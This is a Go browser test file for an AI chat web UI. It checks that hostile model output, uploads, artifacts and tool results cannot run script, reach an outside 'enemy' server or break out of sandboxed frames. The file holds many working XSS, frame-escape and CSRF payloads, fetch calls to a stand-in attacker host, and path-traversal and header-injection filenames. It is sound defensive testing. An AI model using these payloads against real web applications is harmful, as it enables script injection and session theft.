// SPDX-License-Identifier: Apache-2.0

package webui_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/artelhq/artel"
	"github.com/artelhq/artel/app"
	"github.com/artelhq/artel/app/apptest"
	"github.com/artelhq/artel/model"
	"github.com/artelhq/artel/webui/webuitest"
)

// An enemy is a server that nothing may ever ask, and texts that try to make
// the page ask it, run something, or leave its place.
type enemy struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newEnemy(t *testing.T) *enemy {
	t.Helper()
	e := &enemy{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.hits = append(e.hits, r.Method+" "+r.URL.String())
	}))
	t.Cleanup(func() {
		e.Close()
		for _, hit := range e.hits {
			t.Errorf("the enemy was asked: %s", hit)
		}
	})
	return e
}

// says fills in the enemy's address for EVIL, and what a success does for RUN.
func (e *enemy) says(text string) string {
	return strings.NewReplacer("EVIL", e.URL, "RUN", "document.title='owned';window.owned=1;alert(1);fetch('"+e.URL+"/run')").Replace(text)
}

const hostileMarkup = `<script>RUN</script><img src=x onerror="RUN"><img src="EVIL/img.png"><svg onload="RUN"><animate onbegin="RUN" attributeName=x></svg>` +
	`<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.RUN</script>"></iframe><object data="EVIL/o"></object><embed src="EVIL/e">` +
	`<link rel=stylesheet href="EVIL/c.css"><meta http-equiv=refresh content="0;url=EVIL/refresh"><base href="EVIL/"><form action="EVIL/form"><button autofocus onfocus="RUN">x</button></form>` +
	`<style>body{display:none}*{position:fixed;inset:0;z-index:99999;background:url(EVIL/css)}</style><div style="position:fixed;inset:0;z-index:99999;background:red">over</div>` +
	`<a href="javascript:RUN" target=_top>a</a><a href="data:text/html,<script>RUN</script>">b</a><video src="EVIL/v" autoplay onloadstart="RUN"></video><details open ontoggle="RUN">d</details>` +
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></table></mtext></math></textarea></title></template><dialog open>x</dialog><div popover id=picker>y</div>` +
	`<p id=composer data-gone data-into="#messages" hx-get="EVIL/hx" hx-trigger="load" class="dock panel full">z</p><noscript><p title="</noscript><img src=x onerror=RUN>">`

const hostileMarkdown = hostileMarkup + "\n\n" +
	"[one](javascript:RUN) [two](JaVaScRiPt&colon;RUN) [three]( java\tscript:RUN ) [four](data:text/html;base64,PHNjcmlwdD4x) [five](vbscript:x) [six](//EVIL/x)\n\n" +
	"![pic](EVIL/md.png) ![pic](data:image/svg+xml,<svg onload=RUN>) ![x](javascript:RUN) ![x](/api/v1/../../c)\n\n" +
	"<javascript:RUN> [ref] [artifact](artifact:../../../etc) [x](artifact:report\"onclick=\"RUN)\n\n[ref]: javascript:RUN \"\\\"onmouseover=RUN\"\n\n" +
	"```\"><script>RUN</script>\n</code></pre><script>RUN</script>\n```\n\n| <img src=x onerror=RUN> | b |\n|---|---|\n| `<script>RUN</script>` | \u202e RTL |\n\n" +
	"- [x] <input onfocus=RUN autofocus>\n\n" + "\u202egnp.exe\u2066\u2067 " + "\n\n"

// hostileNames are names of files as nobody should give them.
func hostileNames() []string {
	return []string{
		"../../../etc/passwd", `..\..\windows\system.ini`, `"><img src=x onerror=alert(1)>.md`, "a\"b'c`d.txt", "two\r\nSet-Cookie: owned=1.txt",
		"innocent\u202egpj.exe", strings.Repeat("long", 62) + ".html", "🧨\u202e.svg", "<script>document.title='owned'<!-- -->.csv", "%2e%2e%2f%00.json", "  .  ", "-rf",
	}
}

// upload is the body of a message with files of any names.
func (e *enemy) upload(t *testing.T, text string, names []string) (contentType string, body *bytes.Buffer) {
	t.Helper()
	body = &bytes.Buffer{}
	w := multipart.NewWriter(body)
	if err := w.WriteField("text", text); err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		quoted := strings.NewReplacer(`\`, `\\`, `"`, "%22", "\r", "%0D", "\n", "%0A").Replace(name)
		part, err := w.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="file"; filename="` + quoted + `"`}})
		if err == nil {
			_, err = part.Write([]byte(e.says(hostileMarkdown)))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return w.FormDataContentType(), body
}

// model is one that does its worst: markup everywhere, in pieces that split
// tags, calls of tools that there are not, arguments too deep and too long.
func (e *enemy) model() model.Provider {
	var turns atomic.Int32
	return speech(func(_ context.Context, _ *model.Request, say func(model.Delta) bool) {
		text := e.says(hostileMarkdown)
		turn := turns.Add(1)
		if turn%2 == 0 { // each run has two: tools, then text
			for piece := range slices.Chunk([]rune(text), 97) {
				say(model.TextDelta(string(piece)))
			}
			for piece := range slices.Chunk([]rune(text[:1000]), 3) { // in the middle of every tag
				say(model.TextDelta(string(piece)))
			}
			return
		}
		say(model.ReasoningDelta(text))
		call := func(i int, name string, args any) {
			raw, err := json.Marshal(args)
			if err == nil {
				say(model.CallDelta{ID: artel.CallID(fmt.Sprintf("c%d", i)), Name: name, Arguments: raw})
			}
		}
		deep := json.RawMessage(strings.Repeat(`{"a":[`, 400) + "1" + strings.Repeat(`]}`, 400))
		if turn > 1 {
			e.makes(text, call)
			return
		}
		call(1, `<img src=x onerror="alert(1)">`, map[string]any{"id": text[:200], "title": text})
		call(2, strings.Repeat("x", 300), deep)
		call(3, "list_artifacts", map[string]any{"one line": strings.Repeat("W", 1_000_000)})
	})
}

// makes calls for an artifact of each type that a browser could run something
// of.
func (e *enemy) makes(text string, call func(int, string, any)) {
	for i, mediaType := range []string{"text/html", "image/svg+xml", "text/markdown", "text/csv", "application/json", "text/plain", "application/xhtml+xml", "text/css"} {
		content := text
		switch mediaType {
		case "text/html":
			content = e.says(hostilePage)
		case "image/svg+xml":
			content = e.says(hostileDrawing)
		}
		call(10+i, "create_artifact", map[string]any{"id": fmt.Sprintf("evil%d", i), "title": `"><script>document.title='owned'</script>` + "\u202e", "content": content, "media_type": mediaType})
	}
}

// A page that tries to reach the one around it.
const hostilePage = `<!doctype html><meta http-equiv=refresh content="0;url=EVIL/meta"><base target=_top><style>@import "EVIL/import.css";body{background:url(EVIL/bg)}</style>
<script>RUN;try{parent.document.title='owned'}catch(e){};top.location='EVIL/top';parent.postMessage('owned','*');document.cookie='owned=1';localStorage.owned=1;open('EVIL/open')</script>
<script src="EVIL/s.js"></script><img src="EVIL/i.png" onerror="RUN"><iframe src="EVIL/inner"></iframe><link rel=prefetch href="EVIL/prefetch"><link rel=dns-prefetch href="EVIL">
<script>fetch('/api/v1/conversations',{method:'POST',headers:{'Content-Type':'application/json'},body:'{}'})</script>
<form id=g action="/api/v1/conversations" target=_top method=post><input name=title value=owned></form><script>g.submit();f.submit()</script>
<form id=f action="EVIL/submit" target=_top method=post><input name=a value=b autofocus onfocus="RUN"></form>
<a id=cover target=_top href="EVIL/click" ping="EVIL/ping" style="position:fixed;inset:0;z-index:9">click anywhere</a>`

const hostileDrawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9000" height="9000" onload="RUN"><script>RUN</script>
<image href="EVIL/image.png"/><use href="EVIL/use.svg#a"/><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script><iframe src="EVIL/f"/></body></foreignObject>
<a xlink:href="javascript:RUN"><rect width="9000" height="9000"/></a><style>@import url(EVIL/svg.css);</style><set attributeName="onmouseover" to="RUN"/></svg>`

// unhurt lists what hostile content has achieved on the page that is shown.
const unhurt = `(() => {
	const out = [];
	if (document.title.startsWith("owned") || window.owned) out.push("a script ran");
	if (/owned/.test(document.cookie) || localStorage.owned || sessionStorage.owned) out.push("something was stored");
	for (const v of window.violations ?? []) out.push("violation of " + v);
	const own = "#main, #panel, #sidebar";
	for (const e of document.querySelectorAll("#messages *, #viewer *, #artifacts *, #plan *, #conversations *, #heading *")) {
		if (/^(script|style|link|meta|base|object|embed|form|dialog|math|animate|set|foreignobject|noscript|textarea)$/i.test(e.localName) && !e.closest(".conversation .actions, form.rename, article.message > footer > form")) out.push("there is <" + e.localName + ">");
		if (e.localName === "iframe" && !(e.hasAttribute("sandbox") && e.getAttribute("sandbox") === "" || e.getAttribute("src")?.startsWith("/api/"))) out.push("there is a free frame");
		const held = e.matches("img, audio, video") && /^data:(image|audio|video)\//.test(e.src) || e.matches("a[download]") && e.href.startsWith("data:application/octet-stream;");
		for (const a of e.attributes) {
			if (held && /^(src|href)$/.test(a.name)) continue; // bytes that were looked at, shown as no more than media
			if (/^on|^style$|^srcdoc$|^popover$|^autofocus$/i.test(a.name)) out.push("there is " + a.name + " on " + e.localName);
			if (/^(href|src|action|formaction|xlink:href|data)$/i.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) out.push("there is " + a.name + "=" + a.value.slice(0, 40));
			if (/^(src|poster)$/i.test(a.name) && !a.value.startsWith("/")) out.push(e.localName + " is fetched from " + a.value.slice(0, 40));
			if (/^(hx-|data-into|data-gone)/.test(a.name) && /^z$/.test(e.textContent)) out.push("there is " + a.name);
		}
	}
	const text = document.querySelector("#text");
	if (text?.checkVisibility() && !document.querySelector("#main").inert) {
		const box = text.getBoundingClientRect(), hit = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
		if (hit !== text) out.push("over the composer lies " + hit?.outerHTML.slice(0, 80));
		if (document.querySelector("main.thread") && (box.bottom > innerHeight || box.bottom < innerHeight - 200)) out.push("the composer ends at " + box.bottom);
	}
	if (document.documentElement.scrollWidth > innerWidth) out.push("the page scrolls sideways: " + document.documentElement.scrollWidth);
	if (document.querySelectorAll("#composer").length !== 1 || document.querySelectorAll("#picker").length !== 1) out.push("an element of the page is there twice");
	return out;
})()`

// What models, files and people bring never runs, never asks another server
// and never leaves its place.
func TestHostileContent(t *testing.T) {
	t.Parallel()
	e := newEnemy(t)
	s := newSiteOf(t, setup{model: e.model()})
	b := openTab(t, 1280, 860)
	b.Prefer("light", true)
	// The frame of a page refuses the page's script and, where the browser reports it, what the page loads.
	b.Forgive("sandboxed", "Blocked script execution", "violates the following Content Security Policy directive")
	b.Do(webuitest.Command(page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `if (top === window) { window.violations = []; document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective + " by " + e.blockedURI)); }`,
	}))
	dialogs := b.dialogs()
	check := func(where string) {
		t.Helper()
		for _, wrong := range eval[[]string](b, unhurt) {
			t.Errorf("%s: %s", where, wrong)
		}
		if at := eval[string](b, "location.origin"); at != s.URL {
			t.Fatalf("%s: the browser was led to %s", where, at)
		}
		if n := dialogs(); n > 0 {
			t.Errorf("%s: %d dialogs opened", where, n)
		}
	}

	// Live, piece by piece.
	b.Do(chromedp.Navigate(s.URL), see("#composer"), write(e.says(hostileMarkdown)), press("\r"), see("#messages .message.user"))
	b.rest()
	check("live")
	b.Script(`document.querySelectorAll("#messages details").forEach((d) => { d.open = true; })`)
	check("with open cards")

	// Files of any name, and artifacts of each type.
	contentType, body := e.upload(t, e.says(hostileMarkdown), hostileNames())
	a := s.ask(t, "POST", "/c", contentType, body)
	if a.StatusCode != http.StatusSeeOther {
		t.Fatalf("status %d: %s", a.StatusCode, a.body)
	}
	c := s.URL + a.Header.Get("Location")
	id := artel.ConversationID(strings.TrimPrefix(a.Header.Get("Location"), "/c/"))
	waitFinal(t, s, id)
	if _, err := s.app.Conversations.Rename(apptest.Context(t), id, e.says(`"><script>RUN</script><img src=x onerror=RUN>`)); err != nil {
		t.Fatal(err)
	}
	for _, width := range []int64{1280, 390} {
		resize(b, width, 860)
		b.Do(chromedp.Navigate(c), see("#messages"))
		b.Script(`document.querySelectorAll("#messages details").forEach((d) => { d.open = true; })`)
		check(fmt.Sprintf("loaded, %d wide", width))
	}
	resize(b, 1280, 860)

	artifacts, err := s.app.Artifacts.List(apptest.Context(t), id, "")
	if err != nil || len(artifacts) < 8 {
		t.Fatalf("%d artifacts (%v)", len(artifacts), err)
	}
	for _, a := range artifacts {
		b.Script(fmt.Sprintf(`document.getElementById(%q).querySelector("a").click()`, "a-"+string(a.ID)))
		b.Until(fmt.Sprintf(`document.querySelector("#viewer")?.dataset.artifactShown === %q`, a.ID))
		b.Until(`[...document.querySelectorAll("#viewer img")].every((i) => i.complete)`)
		check(string(a.ID))
		for i := range 2 {
			if i+1 >= eval[int](b, `document.querySelectorAll(".tabs a").length`) {
				break
			}
			b.Script(fmt.Sprintf(`document.querySelectorAll(".tabs a")[%d].click()`, i+1))
			b.Until(fmt.Sprintf(`document.querySelectorAll(".tabs a")[%d]?.ariaCurrent === "true"`, i+1))
			check(fmt.Sprintf("%s, view %d", a.ID, i+2))
		}
		b.Script(`document.querySelector("#panel > header > a").click()`)
		b.Do(see("#artifacts"))
	}
	b.Do(chromedp.Navigate(s.URL+"/c?search=script"), see("#conversations"))
	check("search")
}

// dialogs counts and closes the dialogs that scripts open.
func (b *tab) dialogs() func() int {
	b.T.Helper()
	var mu sync.Mutex
	n := 0
	err := chromedp.Listen(b.Ctx, func(event any) {
		if _, ok := event.(*page.EventJavascriptDialogOpening); ok {
			mu.Lock()
			defer mu.Unlock()
			n++
		}
	})
	if err != nil {
		b.T.Fatal(err)
	}
	return func() int {
		mu.Lock()
		defer mu.Unlock()
		return n
	}
}

// A page that somebody made is shown in a frame that reaches nothing: not the
// page around it, not its storage, no other server, and no click leads away.
func TestFrame(t *testing.T) {
	t.Parallel()
	e := newEnemy(t)
	s, written := guarded(t)
	id := s.send(t, "look", map[string]string{"board.html": e.says(hostilePage), "drawing.svg": e.says(hostileDrawing)})
	c := s.URL + "/c/" + string(id)
	b := openTab(t, 1280, 860)
	b.Forgive("sandboxed", "Blocked script execution", "Unsafe attempt", "Content Security Policy", "ERR_BLOCKED_BY_CSP", "violates")
	dialogs := b.dialogs()
	b.Do(chromedp.Navigate(c+"/a/board.html"), see("#viewer iframe"))
	frame := `document.querySelector("#viewer iframe")`
	b.Until(`(() => { try { return ` + frame + `.contentDocument === null; } catch { return true; } })()`) // another origin, which is loaded
	b.Until(`performance.getEntriesByType("resource").some((r) => r.name.includes("/api/v1/files/") && r.initiatorType === "iframe" && r.responseEnd > 0)`)
	if eval[string](b, frame+`.getAttribute("sandbox")`) != "" {
		t.Error("the frame may do something")
	}
	for range 2 {
		box := eval[[]float64](b, `(() => { const r = `+frame+`.getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()`)
		b.Do(chromedp.MouseClickXY(box[0], box[1]))
	}
	if n := dialogs(); n > 0 || eval[bool](b, `document.title.includes("owned") || "owned" in localStorage || document.cookie.includes("owned")`) {
		t.Errorf("the frame reached the page (%d dialogs)", n)
	}
	if at := eval[string](b, "location.href"); at != c+"/a/board.html" {
		t.Errorf("the frame led the browser to %s", at)
	}

	if got := written(); len(got) > 1 { // what this test has sent
		t.Errorf("the frame wrote to the server: %q", got)
	}

	// The same file opened by its own address.
	for _, file := range []string{"board.html", "drawing.svg"} {
		b.Do(chromedp.Navigate(c+"/a/"+file), see("#viewer"))
		for _, url := range eval[[]string](b, `[...document.querySelectorAll("#viewer iframe, #viewer img")].map((e) => e.src)`) {
			a := s.ask(t, "GET", strings.TrimPrefix(url, s.URL), "", nil)
			if p := a.Header.Get("Content-Security-Policy"); a.StatusCode != 200 || !strings.Contains(p, "sandbox") || !strings.Contains(p, "default-src 'none'") {
				t.Errorf("%s: status %d, policy %q", url, a.StatusCode, p)
			}
			if strings.Contains(url, "preview=true") {
				b.Do(chromedp.Navigate(url))
				b.Until(`document.readyState === "complete"`)
				if at := eval[string](b, "location.href"); at != url {
					t.Errorf("%s leads to %s", url, at)
				}
			}
		}
	}
	if n := dialogs(); n > 0 {
		t.Errorf("%d dialogs opened", n)
	}
	if got := written(); len(got) > 1 {
		t.Errorf("a file that was opened wrote to the server: %q", got)
	}
}

// guarded is a site that notes what is asked of it except to show something.
func guarded(t *testing.T) (s *site, written func() []string) {
	t.Helper()
	var mu sync.Mutex
	var all []string
	c := setup{demo: script(t, "-- turn 1 --\nok\n"), wrap: func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Method != http.MethodGet && r.Method != http.MethodHead {
				mu.Lock()
				all = append(all, r.Method+" "+r.URL.Path)
				mu.Unlock()
			}
			next.ServeHTTP(w, r)
		})
	}}
	return newSiteOf(t, c), func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(all)
	}
}

// Hostile results of tools: pages and drawings that are held or named, claimed
// to be something else, and texts and names of every kind. Nothing runs on the
// page, nor where a link of a result is followed.
func TestHostileResults(t *testing.T) {
	t.Parallel()
	e := newEnemy(t)
	s, written := guarded(t)
	page, drawing, markup := e.says(hostilePage), e.says(hostileDrawing), e.says(hostileMarkdown)
	id, list := s.results(t, map[string]string{"board.html": page, "drawing.svg": drawing, "pic.png": page}, func(c artel.ConversationID) []shown {
		url := func(name string) string {
			return app.FileURL(artel.Ref{Conversation: c, Artifact: artel.ArtifactID(name)})
		}
		all := []shown{
			{name: "page held", metadata: m{"content_type": "image", "media_type": "image/png", "encoding": "base64", "data": in64(page)}},
			{name: "drawing held", metadata: m{"content_type": "image", "media_type": "image/svg+xml", "encoding": "base64", "data": in64(drawing)}},
			{name: "drawing as a URI", content: "data:image/svg+xml;base64," + in64(drawing)},
			{name: "page as a URI", content: "data:text/html;base64," + in64(page)},
			{name: "page as an address", metadata: m{"content_type": "url", "url": "data:text/html;base64," + in64(page)}},
			{name: "page named", metadata: m{"content_type": "file", "media_type": "text/html", "url": url("board.html")}},
			{name: "page as a PDF", metadata: m{"content_type": "document", "media_type": "application/pdf", "url": url("board.html")}},
			{name: "drawing named", metadata: m{"content_type": "image", "media_type": "image/svg+xml", "url": url("drawing.svg")}},
			{name: "drawing as a film", metadata: m{"content_type": "video", "media_type": "video/mp4", "url": url("drawing.svg")}},
			{name: "picture elsewhere", metadata: m{"content_type": "image", "url": e.URL + "/picture.png"}},
			{name: "script", metadata: m{"content_type": "url", "url": "javascript:alert(1)"}, content: "javascript:alert(1)"},
			{name: "names", metadata: m{"content_type": markup, "media_type": markup, "filename": markup, "file_path": markup, "size": 1e300}},
			{name: "error", content: markup, failed: true},
		}
		for _, kind := range []string{"markdown", "code", "table", "json", "list", "diff", "text", "error", "image", "hologram", ""} {
			all = append(all, shown{name: "text as " + kind, metadata: m{"content_type": kind}, content: markup})
		}
		return all
	})
	b := openTab(t, 1280, 860)
	b.Forgive("sandboxed", "Blocked script execution", "Unsafe attempt", "ERR_BLOCKED_BY_CSP", "violates", "Content Security Policy")
	dialogs := b.dialogs()
	b.Do(chromedp.Navigate(s.URL+"/c/"+string(id)), see("#messages .call"))
	b.Script(`document.querySelectorAll("#messages details").forEach((d) => { d.open = true; }); document.querySelectorAll("[loading=lazy]").forEach((e) => { e.loading = "eager"; })`)
	b.Until(`[...document.querySelectorAll("#messages img")].every((i) => i.complete)`)
	b.Until(`[...document.querySelectorAll("#messages iframe")].every((f) => { try { return f.contentDocument === null; } catch { return true; } })`)
	for _, wrong := range eval[[]string](b, unhurt) {
		t.Error(wrong)
	}
	if n := eval[int](b, `document.querySelectorAll(".call").length`); n != len(list) {
		t.Errorf("%d cards are shown, want %d", n, len(list))
	}
	// A picture looked at closer, and every file in a window of its own.
	b.Script(`document.querySelector('a[data-zoom]').click()`)
	b.Until(`document.querySelector("#zoom").open && document.querySelector(".stage img").complete`)
	links := eval[[]string](b, `[...new Set([...document.querySelectorAll("#messages a[href^='/api/'], #messages iframe, #messages img[src^='/api/']")].map((e) => e.href ?? e.src))]`)
	if len(links) < 3 {
		t.Errorf("there are only the links %q", links)
	}
	for _, link := range links {
		a := s.ask(t, "GET", strings.TrimPrefix(link, s.URL), "", nil)
		if p := a.Header.Get("Content-Security-Policy"); !strings.Contains(p, "sandbox") || !strings.Contains(p, "default-src 'none'") {
			t.Errorf("%s: policy %q", link, p)
		}
		if strings.HasPrefix(a.Header.Get("Content-Disposition"), "inline") {
			b.Do(chromedp.Navigate(link))
			b.Until(`document.readyState === "complete"`)
			if at := eval[string](b, "location.href"); !strings.HasPrefix(at, s.URL+"/api/") {
				t.Errorf("%s leads to %s", link, at)
			}
		}
	}
	if n := dialogs(); n > 0 {
		t.Errorf("%d dialogs opened", n)
	}
	if got := written(); len(got) > 1 {
		t.Errorf("something wrote to the server: %q", got)
	}
}
